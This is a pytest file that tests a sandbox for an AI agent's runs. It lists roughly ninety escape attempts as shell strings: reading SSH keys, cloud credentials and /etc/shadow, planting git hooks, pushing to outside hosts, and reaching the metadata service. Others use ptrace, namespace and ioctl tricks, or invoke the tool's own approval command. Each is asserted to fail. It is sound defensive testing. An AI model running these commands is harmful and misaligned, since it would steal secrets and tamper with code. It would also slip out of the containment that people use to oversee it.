# SPDX-License-Identifier: Apache-2.0
"""What an agent tries from inside a run, as root and as an ordinary user. Nothing gets out, and nothing changes.

Every attempt says ESCAPED where it reached what it wanted. Files, refs and processes of this machine are compared
before and after; what the agent reads is searched for secrets that lie around outside.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.cli import Result
from tests.runs import PEOPLE, Snapshot, Stage, beyond_record, differences, document, snapshot, temporary_stage

CANARY = "canary-" + "3f9a1c7e5b"
PYTHON = "/usr/bin/python3"


class Attempt(NamedTuple):
    name: str
    script: str
    """Of sh. ``$HOST`` is the folder of the test on this machine, ``$REPO`` the real repository, ``$PORT`` a service
    on this machine's loopback, ``$PID`` one of its processes."""
    expected: str = ""
    """A regular expression that what it prints must match."""


def python(code: str) -> str:
    return f"{PYTHON} - <<'CODE'\n{code}\nCODE"


def syscall(number: int, *arguments: int | str) -> str:
    """A raw system call of x86_64: ESCAPED unless it is refused with an error."""
    words = ", ".join(str(one) for one in (number, *arguments))
    return python(
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"got = libc.syscall({words})\n"
        "print('ESCAPED' if got >= 0 else f'errno {ctypes.get_errno()}')"
    )


def connects(family: str, kind: str, address: str) -> str:
    return python(
        "import socket\n"
        f"s = socket.socket(socket.{family}, socket.{kind})\n"
        "s.settimeout(1)\n"
        f"s.connect({address}) if {kind == 'SOCK_STREAM'} else s.sendto(b'x', {address})\n"
        "print('ESCAPED')"
    )


REFUSED = "denied|Read-only|not permitted|No such file|cannot|unreachable|busy|Errno|errno|failed|not found"

ATTEMPTS = (
    # Files of this machine
    Attempt("write-root", "touch /escaped && echo ESCAPED", "Read-only"),
    Attempt("write-usr", "touch /usr/escaped && echo ESCAPED", "Read-only"),
    Attempt("write-etc", "echo x >>/etc/passwd && echo ESCAPED", "Read-only"),
    Attempt(
        "write-beside", 'mkdir -p "$HOST/beside" && echo x >"$HOST/beside/file"; cat "$HOST/beside/mine"', "No such"
    ),
    Attempt("home-profile", 'echo evil >>"$HOME/.bashrc"; cat "$HOME/.bashrc"', "^evil$"),
    Attempt("read-ssh", 'cat "$HOME/.ssh/id_ed25519" && echo ESCAPED', "No such"),
    Attempt("read-aws", 'cat "$HOME/.aws/credentials" && echo ESCAPED', "No such"),
    Attempt("read-netrc", 'cat "$HOME/.netrc" && echo ESCAPED', "No such"),
    Attempt("read-shadow", "cat /etc/shadow && echo ESCAPED", "No such"),
    Attempt("read-ssl-private", "ls /etc/ssl/private && echo ESCAPED", "No such"),
    Attempt("read-var", "ls /var/lib /var/log && echo ESCAPED", "No such"),
    Attempt("read-root-home", "ls /root/.ssh /home/*/.ssh && echo ESCAPED", "No such"),
    Attempt("find-canary", f"grep -rs {CANARY[:6]} / --include='*' -l --exclude-dir=proc --exclude-dir=usr | head -3"),
    Attempt("host-mounts", "ls /oldroot /newroot /mnt && echo ESCAPED", "No such"),
    Attempt("proc-root", 'ls "/proc/1/root$HOST/beside/mine" && echo ESCAPED', "No such"),
    Attempt("cwd-above", "cat ../../../../../beside/mine && echo ESCAPED", "No such"),
    # Sockets of this machine
    Attempt("ssh-agent", 'test -z "$SSH_AUTH_SOCK" && ssh-add -l; test -S "$HOST/agent.sock" && echo ESCAPED', "."),
    Attempt(
        "unix-socket", connects("AF_UNIX", "SOCK_STREAM", "__import__('os').environ['HOST'] + '/agent.sock'"), REFUSED
    ),
    Attempt("abstract-socket", connects("AF_UNIX", "SOCK_STREAM", "'\\0gatekeeper-escape-test'"), "refused|Errno"),
    Attempt("docker", "ls /var/run/docker.sock /run/docker.sock && echo ESCAPED", "No such"),
    Attempt("x11", "ls /tmp/.X11-unix && echo ESCAPED", "No such"),
    Attempt("d-bus", "ls /run/dbus /run/user && echo ESCAPED", "No such"),
    Attempt("gpg-agent", "ls ~/.gnupg /run/user/*/gnupg && echo ESCAPED", "No such"),
    # The real repository
    Attempt(
        "hook",
        'printf "#!/bin/sh\\ntouch $HOST/escaped" >"$REPO/.git/hooks/post-commit"; ls "$REPO/.git/hooks"',
        "post-commit",
    ),
    Attempt("config", 'git config --file "$REPO/.git/config" core.fsmonitor "touch $HOST/escaped"', ""),
    Attempt("remote-url", "git config --get-regexp remote; git remote -v; cat $REPO/.git/config", "worktree"),
    Attempt("other-branches", "git rev-parse --verify refs/heads/private && echo ESCAPED", "fatal"),
    Attempt("move-ref", "git update-ref refs/heads/main $(git commit-tree -m x HEAD^{tree})", ""),
    Attempt("delete-objects", "rm -rf /run/gatekeeper/objects/0; ls /run/gatekeeper/objects/0 | head -1", "Read-only"),
    Attempt("write-objects", "touch /run/gatekeeper/objects/0/escaped && echo ESCAPED", "Read-only"),
    Attempt("remount-objects", "mount -o remount,rw /run/gatekeeper/objects/0 && echo ESCAPED", REFUSED),
    Attempt("rename-git", 'mv "$REPO/.git" "$REPO/gone" && echo ESCAPED', "busy"),
    Attempt("replace-link", "rm -f .git && echo ESCAPED", "busy"),
    Attempt("write-link", "echo gitdir: /elsewhere >.git && echo ESCAPED", "Read-only"),
    Attempt("real-worktree", 'cat "$REPO/README" && echo ESCAPED', "No such"),
    Attempt("other-worktrees", 'ls "$REPO/.git/worktrees/other" && echo ESCAPED', "No such"),
    Attempt("gate-key", 'cat "$REPO/.git/gatekeeper/gate_key" && echo ESCAPED', "No such"),
    Attempt("run-state", 'ls "$REPO/.git/gatekeeper" && echo ESCAPED', "No such"),
    # The network
    Attempt("push-path", 'git push "$HOST/remote.git" HEAD:refs/heads/evil && echo ESCAPED', "fatal"),
    Attempt("push-https", "git push https://203.0.113.7/x.git HEAD && echo ESCAPED", "fatal"),
    Attempt("metadata", connects("AF_INET", "SOCK_STREAM", "('169.254.169.254', 80)"), "unreachable"),
    Attempt("raw-ip", connects("AF_INET", "SOCK_STREAM", "('203.0.113.7', 443)"), "unreachable"),
    Attempt("ipv6", connects("AF_INET6", "SOCK_STREAM", "('2001:db8::7', 443)"), "unreachable|Cannot assign|Errno"),
    Attempt("dns", python("import socket; socket.getaddrinfo('example.org', 443); print('ESCAPED')"), "gaierror"),
    Attempt("udp", connects("AF_INET", "SOCK_DGRAM", "('203.0.113.7', 53)"), "unreachable"),
    Attempt(
        "loopback-service",
        connects("AF_INET", "SOCK_STREAM", "('127.0.0.1', int(__import__('os').environ['PORT']))"),
        "refused",
    ),
    Attempt("raw-socket", python("import socket; socket.socket(2, 3, 1); print('ESCAPED')"), "not permitted"),
    Attempt("packet-socket", python("import socket; socket.socket(17, 3); print('ESCAPED')"), "not supported"),
    Attempt("vsock", python("import socket; socket.socket(40, 1); print('ESCAPED')"), "not supported"),
    Attempt("alg-socket", python("import socket; socket.socket(38, 5); print('ESCAPED')"), "not supported"),
    Attempt("netlink-audit", python("import socket; socket.socket(16, 3, 9); print('ESCAPED')"), "not supported"),
    # Processes of this machine
    Attempt("signal", 'kill -9 "$PID" && echo ESCAPED', "No such process|not found"),
    Attempt("see-processes", 'ls "/proc/$PID" && echo ESCAPED; ls /proc | grep -c "^[0-9]"', "No such"),
    Attempt("ptrace", syscall(101, 16, 1, 0, 0), "errno 1"),
    Attempt("process-memory", syscall(310, 1, 0, 0, 0, 0, 0), "errno 1"),
    Attempt("pidfd-getfd", syscall(438, 3, 0, 0), "errno 1"),
    Attempt("environment", "cat /proc/*/environ | tr '\\0' '\\n'", "GATEKEEPER_RUN"),
    Attempt(
        "descriptors", "ls -l /proc/1/fd /proc/self/fd | grep -v -e pipe: -e /dev/null -e total -e /proc -e eventfd", ""
    ),
    # The kernel
    Attempt("mount", "mount -t tmpfs none /mnt && echo ESCAPED", REFUSED),
    Attempt("umount", "umount /proc && echo ESCAPED", REFUSED),
    Attempt("mount-call", syscall(165, 0, 0, 0, 0, 0), "errno 1"),
    Attempt("fsopen", syscall(430, 0, 0), "errno 1"),
    Attempt("unshare-user", "unshare -Ur id && echo ESCAPED", "not permitted|No space"),
    Attempt("unshare-net", "unshare -n true && echo ESCAPED", "not permitted"),
    Attempt("clone-user", syscall(56, 0x10000011, 0, 0, 0, 0), "errno 1"),
    Attempt("clone3", syscall(435, 0, 0), "errno 38"),
    Attempt("setns", "nsenter -t 1 -n true && echo ESCAPED", REFUSED),
    Attempt("chroot", "chroot / true && echo ESCAPED", "not permitted"),
    Attempt("mknod", "mknod disk b 8 0 && echo ESCAPED; mknod $HOME/mem c 1 1 && echo ESCAPED", "not permitted"),
    Attempt("setuid", "cp /bin/sh ./s && chmod 6755 s && ./s -p -c 'test $(id -u) = 0 && echo ESCAPED'; rm s", ""),
    Attempt("sudo", "su -c id || sudo -n id", "."),
    Attempt("chown", "touch f && chown 0:0 f && echo ESCAPED; rm f", "not permitted|Invalid"),
    Attempt("capabilities", "grep -i -e capeff -e capbnd -e capprm /proc/self/status", "0000000000000000"),
    Attempt("keyctl", syscall(250, 0, -3, 0), "errno 1"),
    Attempt("bpf", syscall(321, 0, 0, 0), "errno 1"),
    Attempt("perf", syscall(298, 0, 0, -1, -1, 0), "errno 1"),
    Attempt("io-uring", syscall(425, 1, 0), "errno 1"),
    Attempt("userfaultfd", syscall(323, 0), "errno 1"),
    Attempt("open-by-handle", syscall(304, -100, 0, 0), "errno 1"),
    Attempt("tiocsti", python("import fcntl; fcntl.ioctl(0, 0x5412, b'x'); print('ESCAPED')"), "not permitted"),
    Attempt("tiocsti-high-bits", syscall(16, 0, "ctypes.c_ulong(0x100005412)", 0), "errno 1"),
    Attempt("tioclinux", python("import fcntl; fcntl.ioctl(0, 0x541C, b'x'); print('ESCAPED')"), "not permitted"),
    Attempt(
        "kernel-settings",
        "for f in $(find /proc -path '/proc/[0-9]*' -prune -o -type f -writable -print 2>/dev/null); do "
        "(true >>$f) 2>/dev/null && echo ESCAPED $f; done; (echo x >/proc/sys/kernel/core_pattern) && echo ESCAPED",
        "Read-only|denied",
    ),
    Attempt(
        "kernel-memory", "head -c 1 /proc/kcore && echo ESCAPED; head -c 1 /proc/kmsg && echo ESCAPED", "denied|No such"
    ),
    Attempt("kernel-log", "dmesg && echo ESCAPED", "not permitted"),
    Attempt(
        "devices",
        "ls /dev/sd* /dev/vd* /dev/mem /dev/kvm /dev/fuse && echo ESCAPED; ls /sys && echo ESCAPED",
        "No such",
    ),
    Attempt("device-folder", "touch /dev/escaped && echo ESCAPED", "Read-only"),
    Attempt("host-name", "hostname escaped && echo ESCAPED; hostname", "gatekeeper"),
    Attempt("clock", "date -s 2001-01-01 && echo ESCAPED", "not permitted"),
    Attempt("approve", "gatekeeper approve HEAD --yes && echo ESCAPED", "not found"),
)


class Tried(NamedTuple):
    """One run in which all of ATTEMPTS were made."""

    stage: Stage
    result: Result
    said: dict[str, str]
    before: Snapshot
    after: Snapshot
    heard: list[str]
    """Connections that a service of this machine got."""
    victim_alive: bool


@pytest.fixture(scope="module", params=PEOPLE)
def tried(request: pytest.FixtureRequest) -> Iterator[Tried]:
    with temporary_stage(request.param) as stage:
        yield _try_all(stage)


def _try_all(stage: Stage) -> Tried:
    secrets = (".ssh/id_ed25519", ".aws/credentials", ".netrc", ".gnupg/key", ".bashrc")
    for name in secrets:
        (stage.home / name).parent.mkdir(exist_ok=True)
        (stage.home / name).write_text(CANARY)
    (stage.folder / "beside").mkdir()
    (stage.folder / "beside" / "mine").write_text(CANARY)
    stage.git("init", "-q", "--bare", str(stage.folder / "remote.git"))
    stage.git("remote", "add", "origin", f"https://user:{CANARY}@example.org/payments.git")
    stage.git("branch", "private")
    stage.git("worktree", "add", "-q", str(stage.folder / "other"), "private")
    stage.own()
    heard: list[str] = []
    with Services(stage, heard) as port, subprocess.Popen(["sleep", "600"]) as victim:
        before = snapshot(stage.folder)
        env = {"AWS_SESSION_TOKEN": CANARY, "DBUS_SESSION_BUS_ADDRESS": f"unix:path={stage.folder}/agent.sock"}
        result = stage.shell(_script(stage, port, victim.pid), env=env)
        after = snapshot(stage.folder)
        alive = victim.poll() is None
        victim.kill()
    parts = re.split(r"^=== (\S+)\n", result.err, flags=re.MULTILINE)
    return Tried(stage, result, dict(zip(parts[1::2], parts[2::2], strict=False)), before, after, heard, alive)


def _script(stage: Stage, port: int, pid: int) -> str:
    lines = [f"export HOST={stage.folder} REPO={stage.repo.path} PORT={port} PID={pid}"]
    for attempt in ATTEMPTS:
        lines.append(f"echo '=== {attempt.name}'\n(\n{attempt.script}\n) 2>&1 </dev/null")
    return "\n".join([*lines, "echo '=== end'", "git add -A . >/dev/null 2>&1", "git reset -q --hard"])


class Services:
    """What listens on this machine: a TCP port, a socket file, an abstract socket."""

    def __init__(self, stage: Stage, heard: list[str]) -> None:
        self._heard, self._sockets = (
            heard,
            [socket.socket(), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)],
        )
        self._sockets[0].bind(("127.0.0.1", 0))
        self._sockets[1].bind(str(stage.folder / "agent.sock"))
        os.chmod(stage.folder / "agent.sock", 0o777)
        self._sockets[2].bind("\0gatekeeper-escape-test")

    def __enter__(self) -> int:
        for one in self._sockets:
            one.listen()
            threading.Thread(target=self._listen, args=(one,), daemon=True).start()
        return int(self._sockets[0].getsockname()[1])

    def _listen(self, listening: socket.socket) -> None:
        while True:
            try:
                accepted, _ = listening.accept()
            except OSError:
                return
            self._heard.append(str(accepted.getsockname()))
            accepted.close()

    def __exit__(self, *error: object) -> None:
        for one in self._sockets:
            one.shutdown(socket.SHUT_RDWR)
            one.close()


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.name)
def test_an_attempt_is_refused(tried: Tried, attempt: Attempt) -> None:
    said = tried.said[attempt.name]
    assert "ESCAPED" not in said, said
    assert re.search(attempt.expected, said), said
    assert CANARY not in said, said


def test_everything_was_tried_and_nothing_ended_the_run(tried: Tried) -> None:
    assert "end" in tried.said
    assert tried.result.code == 0, tried.result
    assert document(tried.result)["isolation"] == "bubblewrap"


def test_no_secret_of_this_machine_is_in_what_the_agent_saw(tried: Tried) -> None:
    assert CANARY not in tried.result.err
    assert CANARY not in tried.result.out


def test_the_repository_is_bit_identical(tried: Tried) -> None:
    repository = tried.stage.repo
    inside = {path: one for path, one in tried.before.items() if path.startswith(str(repository.path))}
    later = {path: one for path, one in tried.after.items() if path.startswith(str(repository.path))}
    assert len(inside) > 20
    assert beyond_record(repository, inside, later) == set()


def test_nothing_else_on_this_machine_changed(tried: Tried) -> None:
    other = {path for path in differences(tried.before, tried.after) if not path.startswith(str(tried.stage.repo.path))}
    home = str(tried.stage.home)
    assert other <= {f"{home}/.local", f"{home}/.local/state"}


def test_no_service_of_this_machine_was_reached_and_no_process_touched(tried: Tried) -> None:
    assert tried.heard == []
    assert tried.victim_alive


def test_no_process_of_the_run_is_left(tried: Tried) -> None:
    run = str(document(tried.result)["run"])
    for place in Path("/proc").glob("[0-9]*/environ"):
        try:
            assert f"GATEKEEPER_RUN={run}".encode() not in place.read_bytes()
        except (PermissionError, FileNotFoundError, ProcessLookupError):
            continue
